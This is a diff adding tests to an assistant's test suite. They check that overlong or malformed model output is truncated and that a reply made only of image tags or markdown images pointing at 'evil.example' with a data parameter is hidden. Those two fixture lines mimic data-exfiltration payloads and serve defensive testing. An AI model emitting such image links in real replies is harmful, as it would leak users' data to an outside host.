@@ -1,6 +1,8 @@
 import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
 import type { Refusal } from '../server/core/error.ts'
+import { languages } from '../server/features/assistant/phrases.ts'
 import { assistantState } from '../server/features/assistant/state.ts'
+import { MessageContent } from '../shared/message.ts'
 import { beginReply, createDesk, type Desk, learnShop, replyTo, turnOf } from './support/assistant.ts'
 import { createDatabase, type TestDatabase } from './support/database.ts'
 import { type FakeOllama, type OllamaChat, startFakeOllama } from './support/fake-ollama.ts'
@@ -101,6 +103,26 @@ describe('[R126] a model that fails', () => {
     const { text } = await replyTo(await withOllama().context(), turnOf('Hello'))
     expect(text.length).toBeLessThan(32_000)
     expect(text.endsWith('…')).toBe(true)
+  })
+
+  test.each([
+    ['tags without end', '<a', 15_000],
+    ['images without end', '![', 15_000],
+    ['one piece of a million characters', 'word ', 200_000],
+  ])('writes %s: the reply is cut where a message ends [threat 17]', async (_, text, times) => {
+    says({ text: text.repeat(times) })
+    const context = await withOllama().context({ behaviour: { length: 'long' } })
+    const written = await replyTo(context, turnOf('Hello'))
+    expect(MessageContent.safeParse(written.messages[0]).error).toBeUndefined()
+    expect([written.text.length <= 32_000, written.text.endsWith('…')]).toEqual([true, true])
+  })
+
+  test('writes nothing but what is never shown: the visitor is told that nothing was found [threat 4]', async () => {
+    for (const text of ['<img src="https://evil.example/?d=1">', '![x](https://evil.example/?d=1)']) {
+      says({ text })
+      const { text: shown } = await replyTo(await withOllama().context(), turnOf('Hello'))
+      expect(shown).toBe(languages.en.foundNothing)
+    }
   })
 
   test('is loading: it is asked once more', async () => {
